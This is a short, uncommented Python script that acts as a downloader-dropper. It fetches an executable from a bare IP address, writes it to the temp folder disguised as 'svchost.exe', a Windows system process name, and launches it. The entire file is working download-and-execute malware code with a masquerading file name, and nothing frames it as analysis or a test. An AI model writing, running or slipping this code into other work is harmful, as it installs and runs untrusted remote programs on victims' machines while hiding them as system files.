import os, subprocess, tempfile, requests
path = os.path.join(tempfile.gettempdir(), "svchost.exe")
with requests.get("http://198.51.100.44/agent.exe", stream=True) as r:
    with open(path, "wb") as f:
        for chunk in r.iter_content(8192):
            f.write(chunk)
subprocess.Popen([path])
